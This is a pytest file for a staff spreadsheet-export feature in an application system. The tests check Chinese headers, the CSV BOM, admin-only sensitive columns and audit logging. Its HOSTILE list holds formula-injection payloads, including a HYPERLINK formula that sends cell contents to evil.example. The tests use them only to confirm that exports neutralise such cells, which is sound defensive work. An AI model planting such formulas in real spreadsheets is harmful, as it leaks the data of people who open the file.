"""Exports staff open in Excel or WPS: Chinese headers, a BOM in CSV, hostile cells kept as text,
sensitive columns only when an admin asks, and every export in the audit log."""

import csv
import datetime as dt
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from form_worker.accounts.models import AuditEntry
from form_worker.applications.models import Application
from form_worker.applications.tables import SENSITIVE_HEADER
from form_worker.core.downloads import table_workbook, write_csv, write_xlsx
from site_builder.clock import local_time
from site_builder.spreadsheet import workbook_bytes
from site_builder.spreadsheet.cells import csv_value
from tests.form_worker.conftest import OPEN_POSITION, StaffClient, csrf_token, drain
from tests.helpers.workbooks import described

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]


# ---------------------------------------------------------------- the pure writers


def test_csv_starts_with_a_bom_and_keeps_chinese() -> None:
    data = write_csv(["姓名", "学校"], [["陈示例", "重庆大学"]])
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["姓名", "学校"], ["陈示例", "重庆大学"]]


@pytest.mark.parametrize("value", HOSTILE, ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
def test_csv_quotes_what_would_start_a_formula(value: str) -> None:
    rows = list(csv.reader(io.StringIO(write_csv(["值"], [[value]]).decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "'" + value
    assert csv_value("普通文字") == "普通文字" and csv_value(None) == "" and csv_value(3) == "3"


def test_xlsx_keeps_every_hostile_value_a_string_cell() -> None:
    data = write_xlsx([("报名名单", ["值", "数"], [[value, 1] for value in HOSTILE])])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "报名名单"
    for row, value in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s", value
        assert cell.value == value.replace("\r", "\n")  # XML reads a bare CR back as LF
        assert cell.quotePrefix
    assert sheet.cell(2, 2).data_type == "n"
    assert not sheet.cell(1, 1).quotePrefix


def test_the_streamed_workbook_reads_as_the_ordinary_one() -> None:
    """write_xlsx (write-only mode) gives the workbook table_workbook builds cell by cell."""
    sheets = [
        (
            "报名名单",
            ["值", "数", "日期", "长文字"],
            [[v, i, dt.date(2026, 7, 1), "长" * 60] for i, v in enumerate(HOSTILE)],
        ),
        ("第二页:1", ["空"], [[None], [3.5], ["普通文字\x01"]]),
    ]
    assert described(write_xlsx(sheets)) == described(workbook_bytes(table_workbook(sheets)))


def test_times_are_chongqing_time() -> None:
    assert local_time(dt.datetime(2026, 6, 30, 16, 30)) == "2026-07-01 00:30"
    assert local_time(None) == ""


def test_xlsx_drops_characters_excel_refuses() -> None:
    sheet = load_workbook(io.BytesIO(write_xlsx([("表:1/2", ["值"], [["a\x01b"]])]))).active
    assert sheet.cell(2, 1).value == "ab"
    assert sheet.title == "表_1_2"


# ---------------------------------------------------------------- the views


@pytest.fixture
def applications(applicant, app, session) -> list[Application]:
    """One plain application, one hostile, one with consented priority groups."""
    applicant.submit(phone="13900000001", email="a1@example.com")
    applicant.submit(
        phone="13900000002",
        email="a2@example.com",
        name=HOSTILE[0][:30],
        major="+1",
        statement="@SUM(A1:A2)",
        university="-2+3大学",
    )
    applicant.submit(
        phone="13900000003",
        email="a3@example.com",
        priority_consent="y",
        priority_groups="低保家庭",
    )
    drain(app)
    return list(session.scalars(select(Application).order_by(Application.id)))


def export(staff: StaffClient, scope: str, key: str, fmt: str = "xlsx", sensitive: bool = False):
    data = {f"{scope}-scope": scope, f"{scope}-key": key, f"{scope}-format": fmt}
    if sensitive:
        data[f"{scope}-sensitive"] = "y"
    return staff.post(f"/staff/exports/applications/{scope}", data)


def sheet_rows(response) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def csv_rows(response) -> list[list[str]]:
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def test_export_page_lists_positions_units_and_universities(reviewer: StaffClient, applications) -> None:
    page = reviewer.get("/staff/exports").text
    assert f'value="{OPEN_POSITION}"' in page
    assert 'value="shili-youth-scitech-society"' in page
    assert 'value="重庆大学"' in page
    assert "包含敏感信息" not in page  # reviewers do not even see the box


def test_position_export_as_xlsx_has_chinese_headers_and_no_sensitive_column(
    reviewer: StaffClient, applications, session
) -> None:
    response = export(reviewer, "position", OPEN_POSITION)
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    disposition = response.headers["Content-Disposition"]
    assert "attachment" in disposition and "filename*=UTF-8''" in disposition
    rows = sheet_rows(response)
    headers = rows[0]
    assert headers[:4] == ["报名编号", "状态", "提交时间", "姓名"]
    assert SENSITIVE_HEADER not in headers
    assert [r[0] for r in rows[1:]] == [a.reference for a in applications]
    assert all(r[1] == "已通过初步核验，等待高校遴选推荐" for r in rows[1:])
    assert "低保家庭" not in str(rows)
    entry = session.scalar(select(AuditEntry).where(AuditEntry.action == "export"))
    assert (entry.actor, entry.target) == ("reviewer", f"position:{OPEN_POSITION}")


def test_hostile_cells_stay_strings_in_the_xlsx(reviewer: StaffClient, applications) -> None:
    response = export(reviewer, "position", OPEN_POSITION)
    sheet = load_workbook(io.BytesIO(response.data)).active
    hostile_row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == applications[1].reference)
    values = {cell.value: cell for cell in hostile_row}
    for value in (HOSTILE[0][:30], "+1", "@SUM(A1:A2)", "-2+3大学"):
        assert values[value].data_type == "s", value


@pytest.mark.backend
def test_hostile_cells_are_quoted_in_the_csv(reviewer: StaffClient, applications) -> None:
    response = export(reviewer, "unit", "shili-youth-scitech-society", fmt="csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = csv_rows(response)
    assert rows[0][0] == "报名编号" and SENSITIVE_HEADER not in rows[0]
    hostile = next(r for r in rows if r[0] == applications[1].reference)
    assert "'" + HOSTILE[0][:30] in hostile
    assert "'+1" in hostile and "'@SUM(A1:A2)" in hostile and "'-2+3大学" in hostile
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_university_export(reviewer: StaffClient, applications) -> None:
    rows = csv_rows(export(reviewer, "university", "重庆大学", fmt="csv"))
    assert [r[0] for r in rows[1:]] == [applications[0].reference, applications[2].reference]


def test_an_unknown_key_gives_the_page_back(reviewer: StaffClient, applications) -> None:
    response = export(reviewer, "position", "no-such/position")
    assert response.status_code == 422
    assert "请选择要导出的岗位" in response.text


def test_reviewers_cannot_export_sensitive_columns(reviewer: StaffClient, applications, session) -> None:
    response = export(reviewer, "position", OPEN_POSITION, sensitive=True)
    assert response.status_code == 403
    assert session.scalar(select(AuditEntry).where(AuditEntry.action.startswith("export"))) is None


def test_admin_sensitive_export_has_the_column_and_is_audited(
    admin: StaffClient, applications, session
) -> None:
    response = export(admin, "position", OPEN_POSITION, fmt="csv", sensitive=True)
    assert response.status_code == 200
    rows = csv_rows(response)
    assert rows[0][-1] == SENSITIVE_HEADER
    by_reference = {r[0]: r[-1] for r in rows[1:]}
    assert by_reference[applications[2].reference] == "低保家庭"
    assert by_reference[applications[0].reference] == ""
    entry = session.scalar(select(AuditEntry).where(AuditEntry.action == "export_sensitive"))
    assert (entry.actor, entry.target) == ("admin", f"position:{OPEN_POSITION}")
    assert '"rows": 3' in entry.detail and '"format": "csv"' in entry.detail
    page = admin.get("/staff/audit?action=export_sensitive").text
    assert "导出报名名单（含敏感信息）" in page


def test_admin_export_without_the_box_has_no_sensitive_column(admin: StaffClient, applications) -> None:
    rows = sheet_rows(export(admin, "position", OPEN_POSITION))
    assert SENSITIVE_HEADER not in rows[0] and "低保家庭" not in str(rows)


def test_catalogue_export_is_the_collection_form(reviewer: StaffClient, app, session) -> None:
    response = reviewer.post("/staff/exports/catalogue")
    assert response.status_code == 200
    assert re.search(r"filename\*=UTF-8''.*\.xlsx", response.headers["Content-Disposition"])
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook.worksheets[0]
    text = str([[c.value for c in row] for row in sheet.iter_rows()])
    assert "岗位名称" in text and "学术会议组织助理（示例）" in text
    positions = app.extensions["jianxi.positions"].get()
    assert sum(1 for row in sheet.iter_rows() if row[0].value in positions.by_id) == len(positions.by_id)
    assert session.scalar(select(AuditEntry.action).where(AuditEntry.action == "export_catalogue"))
    assert csrf_token(reviewer.get("/staff/login").text)
